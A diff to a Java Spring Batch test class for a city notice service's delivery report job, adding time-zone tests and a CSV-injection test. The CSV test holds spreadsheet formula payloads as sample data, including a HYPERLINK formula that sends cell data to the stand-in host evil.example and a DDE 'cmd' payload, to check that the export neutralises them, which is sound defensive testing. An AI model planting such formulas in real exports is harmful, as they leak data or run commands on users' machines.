@@ -25,11 +25,14 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 /**
  * deliveryReportJob over rows written straight into the notifier's and the knowledge base's tables. Each test
- * reports on a day of its own, long ago, so that nothing else falls into it.
+ * reports on a day of its own, long ago, so that nothing else falls into it. Days are the city's (Asia/Tokyo); the
+ * tests run with the JVM in UTC (root pom), so a report that counted the JVM's day would count the wrong hours.
  */
 @SpringBatchTest
 @SpringBootTest(classes = BatchTestApplication.class)
 abstract class DeliveryReportJobTests {
+
+	private static final ZoneId CITY = ZoneId.of("Asia/Tokyo");
 
 	@Autowired
 	BatchJobs jobs;
@@ -86,6 +89,24 @@ abstract class DeliveryReportJobTests {
 	}
 
 	@Test
+	void countsTheCitysDayFromMidnightToMidnightWhateverTheServersTimeZone() {
+		long early = notice("未明の配信", day.atTime(0, 30).atZone(CITY).toOffsetDateTime());
+		batch(early, "LINE", 14_000, 14_000, 0);
+		long late = notice("深夜の配信", day.atTime(23, 30).atZone(CITY).toOffsetDateTime());
+		batch(late, "EMAIL", 837, 837, 0);
+		long nextDay = notice("翌日の配信", runDate.atTime(0, 30).atZone(CITY).toOffsetDateTime());
+		batch(nextDay, "LINE", 5, 5, 0);
+
+		JobRun run = jobs.runToEnd("deliveryReportJob", Map.of("date", runDate.toString()));
+
+		assertThat(run.status()).isEqualTo(JobRun.RunStatus.COMPLETED);
+		assertThat(reports.deliveries(day, day)).extracting(DailyReports.DeliveryFigure::noticeId)
+			.containsExactly(early, late);
+		assertThat(reports.deliveries(day, day).stream().mapToLong(DailyReports.DeliveryFigure::sent).sum())
+			.isEqualTo(14_837);
+	}
+
+	@Test
 	void restartAfterAFailureContinuesWithoutRedoingOrSkippingRows() {
 		long[] notices = new long[25];
 		for (int i = 0; i < notices.length; i++) {
@@ -114,6 +135,40 @@ abstract class DeliveryReportJobTests {
 			.findFirst()
 			.orElseThrow()
 			.getReadCount()).isEqualTo(15);
+	}
+
+	/**
+	 * Issue 15, item 11: residents' questions (and staff's titles) that a spreadsheet would read as a formula are
+	 * written so that it reads them as text (OWASP CSV injection): a single quote before them, inside the quotes.
+	 */
+	@Test
+	void aFormulaInResidentTextDoesNotSurviveIntoTheCsv() throws Exception {
+		long notice = notice("-2+3 お知らせ", at(day, 9));
+		batch(notice, "LINE", 10, 10, 0);
+		faq("@SUM(1)", true, at(day, 10));
+		unanswered("=HYPERLINK(\"http://evil.example/?\"&A1,\"詳しくはこちら\")", at(day, 8));
+		unanswered("+1+cmd|' /C calc'!A0", at(day, 9));
+		unanswered("\t=1+1", at(day, 9));
+		unanswered("ごみの日は?", at(day, 9));
+
+		JobRun run = jobs.runToEnd("deliveryReportJob", Map.of("date", runDate.toString()));
+
+		String csv = Files.readString(jobs.report(run.id()).orElseThrow().path());
+		java.util.List<String> cells = new java.util.ArrayList<>();
+		for (String section : csv.substring(1).split("\r\n\r\n")) {
+			org.apache.commons.csv.CSVParser.parse(section, org.apache.commons.csv.CSVFormat.DEFAULT)
+				.forEach(record -> record.forEach(cells::add));
+		}
+		assertThat(cells).contains("'-2+3 お知らせ", "'@SUM(1)", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"詳しくはこちら\")",
+				"'+1+cmd|' /C calc'!A0", "'\t=1+1", "ごみの日は?");
+		assertThat(cells).noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
+	}
+
+	/** Issue 15, item 10: the report of a run that does not exist is nothing, not a failure (the console's 404). */
+	@Test
+	void aRunThatDoesNotExistHasNoReport() {
+		assertThat(jobs.report(987_654_321L)).isEmpty();
+		assertThat(jobs.run(987_654_321L)).isEmpty();
 	}
 
 	private long notice(String title, OffsetDateTime sentAt) {
@@ -148,7 +203,7 @@ abstract class DeliveryReportJobTests {
 	}
 
 	private static OffsetDateTime at(LocalDate date, int hour) {
-		return date.atTime(hour, 0).atZone(ZoneId.systemDefault()).toOffsetDateTime();
+		return date.atTime(hour, 0).atZone(CITY).toOffsetDateTime();
 	}
 
 }
